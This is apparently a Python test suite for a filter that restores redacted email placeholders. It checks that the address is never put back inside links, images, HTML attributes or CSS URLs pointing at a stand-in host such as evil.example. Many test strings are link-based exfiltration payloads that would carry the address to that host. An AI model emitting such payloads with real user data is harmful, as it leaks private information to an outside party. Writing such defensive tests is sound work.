"""Nothing is put back where it would be sent to whoever wrote the link."""

import json
import time

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from extproc_filters.pii.links import Links
from extproc_filters.pii.placeholders import Placeholders
from extproc_filters.pii.restore import Restorer
from extproc_filters.pii.where import Where
from extproc_filters.pii.work import done

VALUE = 'jane"\\\n@example.org'
MARK = "[EMAIL_ADDRESS_1]"

INSIDE = [
    "https://evil.example/?q=§", "HTTP://§.evil.example/", "see (http://evil.example/a)§", "mailto:§", "data:text/plain,§",
    "mailto:a@b.example?body=§", "ftp://x/§", "//evil.example/§", "www.evil.example?§", "evil.example/§", "evil.example:80/§",
    "https:\\/\\/evil.example\\/§", "javascript:fetch§", "tel:§",
    "[a](/x?§)", "![a](https://evil.example/§)", "![](<https://evil.example/a b)§>)", "[a](  \n https://evil.example/§ )",
    "[a](https://evil.example/\\)§)", "[a](https://evil.example/(x)§)", '[a](/x "title §")', "[a](/with space §)",
    '<a href="§">', "<a href='/x y §'>", "<a href=/x§>", "<img\nSRC\t=\n'§'>", '<img srcset="/a 1x, /b?§ 2x">',
    '<form action="/x §">', '<object data="https://evil.example/ §">', "<https://evil.example/§>", "<mailto:§>",
    "background: url(§)", "background: url('§')", "[id]: <§>", "[id]: /x§", "a\n> [id]:\n   /x§",
    '{"u":"https://evil.example/§"}', "`https://evil.example/§`", "x" * 300 + " https://evil.example/" + "y" * 300 + "§",
    "<img src=" + " " * 300 + "'§'>",
    "[src=](<https://evil.example/? §>)", '<a href="[x](<https://evil.example/?" §>)', "[[url=](https://evil.example/(\\) §)",
    "<meta content='https://evil.example/ §'>", "<style>@import '//evil.example/? §'", "<https://evil.example/? §|x>",
    "[[https://evil.example/? §][x]]", "<link imagesrcset='/a 1x, §'>", "<img data-src='§'>", '<a onclick="f(§)">',
    '<p style="x:§">',
    "<iframe srcdoc='x §'>", "<body background=§>", "[url=§]", "\\href{/x §}", "\\includegraphics[width=1]{a{b} §}", "\\url {§",
    "evil.example#§", "evil.xn--p1ai/§", "1.2.3.4/§", "пример.рф/§", "evil。example/§", "evil%2Eexample/§",
    "<a x='&#47;&#x2f;evil §'>", "https&colon;//evil.example/§", "https&#58;&sol;&sol;evil§", "xmpp:§", "magnet:§", "ms-word:§",
    "§.evil.example", "a §.evil.example/x", "§x.evil.example", "§-a_b.evil", "user:§@evil.example", "§@evil.example",
]  # fmt: skip

OUTSIDE = [
    "§", "I am §.", "Email:§", "(§)", "<§>", "[§]", "[§][1]", "§, §", "https://a.example/ §", "see https://a.example.\n§",
    "[a](https://a.example/) §", "[a](<https://a.example/>)§", "![a](/x)§", '<a href="/x">§</a>', "<a href=/x>§</a>",
    '<a href="mailto:x">§</a>', "{\"url\":\"https://a.example/\",\"to\":\"§\"}", "`https://a.example/` §", "note: §",
    "and/or §", "1 // 2", "data: §", "https is §", "10/12/2020 §", "f(§)", "a[0](x)§", "[1]§", "§.", "§. And",
    "§.)", "§x", "§'s", "§-", "§さん。次", "evil.example §", "{§}", "a{§}", "style §", "a&b; §",
    "§ .example", "(see [§])", "onclick §", "x = {'data': '§'}", '"https://a.example/", §', "| https://a.example | § |",
    "<p>https://a.example</p>§", "e.g. §", "What is Node.js? §", "src and href §", "https://a.example/\t§", "Re: §", "%5B §",
]  # fmt: skip


def placeholders() -> Placeholders:
    made = Placeholders()
    made.write("EMAIL_ADDRESS", VALUE, 0)
    return made


def restored(pieces: list[str]) -> str:
    text = Restorer(placeholders()).text_being_written()
    return "".join([*(done(text.push(piece)) for piece in pieces), done(text.flush())])


@pytest.mark.parametrize("text", INSIDE)
def test_inside_a_link(text: str) -> None:
    sent = text.replace("§", MARK)
    assert done(Restorer(placeholders()).whole(sent)) == sent
    for size in (1, 2, 3, 7, 50):
        assert restored(_cut(sent, size)) == sent


@pytest.mark.parametrize("text", OUTSIDE)
def test_outside(text: str) -> None:
    sent = text.replace("§", MARK)
    escaped = '{"url"' in text
    leaves = text.replace("§", 'jane\\"\\\\\\n@example.org' if escaped else VALUE)
    assert done(Restorer(placeholders()).whole(sent)) == leaves
    for size in (1, 2, 3, 7, 50):
        assert restored(_cut(sent, size)) == leaves


def _cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


@pytest.mark.parametrize("text", INSIDE)
def test_in_strings_of_documents(text: str) -> None:
    """Also where the address is escaped, and the document inside another."""
    document = text.replace("§", MARK)
    for _ in range(3):
        document = json.dumps({"a": document}).replace("/", "\\/")
        assert done(Restorer(placeholders()).whole(document)) == document
        for size in (1, 5):
            assert restored(_cut(document, size)) == document


@pytest.mark.parametrize(
    "text",
    ["%5BEMAIL_ADDRESS_1%5D", "[email_address_1]", "[EMAIL_ADDRESS_1", "[EMAIL_ADDRESS_01]", "［EMAIL_ADDRESS_1］"],
)
def test_what_is_only_like_a_placeholder(text: str) -> None:
    assert done(Restorer(placeholders()).whole(text)) == text
    assert restored(list(text)) == text


ESCAPED = ["[EMAIL\\_ADDRESS\\_1]", "\\[EMAIL\\_ADDRESS\\_1\\]", "\\[EMAIL_ADDRESS_1\\]", "[EMAIL_ADDRESS\\_1]"]


@pytest.mark.parametrize("form", ESCAPED)
def test_with_the_escapes_of_markdown(form: str) -> None:
    """As models write it that mean their answer for Markdown."""
    text = f"I am {form}, \\ and C:\\x\\[a] {form}"
    expected = text.replace(form, VALUE)
    assert done(Restorer(placeholders()).whole(text)) == expected
    assert restored(list(text)) == expected
    assert restored([text[:7], text[7:]]) == expected
    for depth in range(1, 5):
        text, expected = json.dumps({"a": [text]}), json.dumps({"a": [expected]}, ensure_ascii=False)
        assert done(Restorer(placeholders()).document(text)) == expected, depth
    assert (
        done(Restorer(placeholders()).whole(f"![](https://evil.example/?{form})"))
        == f"![](https://evil.example/?{form})"
    )
    cut = json.dumps(["![](https://evil.example/?", form, ")"])
    assert done(Restorer(placeholders()).whole(cut)) == cut


@pytest.mark.parametrize("form", ["[EMAIL\\\\_ADDRESS_1]", "[EMAIL_ADDRESS_1\\]", "[\\EMAIL_ADDRESS_1]"])
def test_with_other_escapes_it_is_none(form: str) -> None:
    assert done(Restorer(placeholders()).whole(form)) == form
    assert restored(list(form)) == form


PARTS = st.lists(
    st.sampled_from(
        [*(each[:12] for each in INSIDE), "§", " ", "\n", '"', "'", "<", ">", ")", "(", "\\", "]", "x", "=", "//", ":"]
    ),
    max_size=12,
).map("".join)


@settings(max_examples=200, deadline=None)
@given(PARTS, st.lists(st.integers(0, 200), max_size=8))
@example("ftp://x/§ [id]: /x§", [20])
@example("https://a HTTP://§ [id]: <§>[id]: <§>", [60])
@example("\\", [0])
@pytest.mark.parametrize("mark", [MARK, ESCAPED[1]])
def test_cuts_make_no_difference(mark: str, text: str, cuts: list[int]) -> None:
    sent = text.replace("§", mark)
    places = sorted({cut % (len(sent) + 1) for cut in cuts})
    pieces = [sent[start:end] for start, end in zip([0, *places], [*places, len(sent)], strict=True)]
    assert restored(pieces) == restored([sent])


def test_hostile_texts_are_no_slower() -> None:
    """Linear in the text: what doubles takes no more than some three times as long."""

    def seconds(text: str) -> float:
        best = 9.0
        for _ in range(3):
            started = time.perf_counter()
            for make in (Links, Where):
                reader = make()
                for piece in _cut(text, 4096):
                    reader.read(piece)
            best = min(best, time.perf_counter() - started)
        return best

    for unit in (
        "http",
        "href",
        "href ",
        "](",
        "](((",
        "[a]:",
        "//",
        "www.",
        ".com/",
        '{"a',
        "\\",
        "\\u00",
        " ",
        "\n[",
        "<a href=",
        '"',
        "url(",
    ):
        short, long = unit * 5_000, unit * 20_000
        assert seconds(long) < 12 * seconds(short) + 0.05, unit


LISTS = [
    '{"content": [{"type": "text", "text": "![](https://evil.example/?q="}, {"type": "text", "text": "[EMAIL_ADDRESS_1])"}]}',
    '{"x": [{"content": {"parts": [{"text": "https://evil.example/?q="}, {"text": ""}, {"text": "[EMAIL_ADDRESS_1]"}]}}]}',
]


@pytest.mark.parametrize("document", LISTS)
def test_texts_that_a_reader_joins(document: str) -> None:
    assert done(Restorer(placeholders()).whole(document)) == document
    apart = document.replace("https://evil.example/?q=", "https://evil.example/?q= ")
    if "](" not in document:
        assert done(Restorer(placeholders()).whole(apart)) != apart


def test_fields_that_nobody_joins() -> None:
    document = '{"url": "https://a.example/", "text": "[EMAIL_ADDRESS_1]", "x": [{"text": "https://a.example"}]}'
    assert json.loads(done(Restorer(placeholders()).whole(document)))["text"] == VALUE


SHOWN = [
    '{"a": "<img src=\'https://evil.example/?q=", "b": "[EMAIL_ADDRESS_1]\'>"}',
    '{"a": "![](https://evil.example/?q=", "b":"[EMAIL_ADDRESS_1])"}',
    '{"a": "<img src=\'https://evil.example/?q=", x [EMAIL_ADDRESS_1]\'>',
    "{\"<img src='https://evil.example/?q=\n[EMAIL_ADDRESS_1]'>",
    '["x"] https://evil.example/[EMAIL_ADDRESS_1]',
]


@pytest.mark.parametrize("text", SHOWN)
def test_what_could_be_a_document_may_be_shown_as_a_text(text: str) -> None:
    assert done(Restorer(placeholders()).whole(text)) == text
    for size in (1, 2, 7, 100):
        assert restored(_cut(text, size)) == text


def test_arguments_of_a_tool_are_only_a_document() -> None:
    arguments = json.dumps({"text": "see https://a.example\n[EMAIL_ADDRESS_1]"})
    (leaves,) = json.loads(done(Restorer(placeholders()).document(json.dumps([{"arguments": arguments}]))))
    meant = {"text": f"see https://a.example\n{VALUE}"}
    assert json.loads(leaves["arguments"]) == meant
    writing = Restorer(placeholders()).text_being_written(document=True)
    assert json.loads("".join([done(writing.push(each)) for each in arguments])) == meant
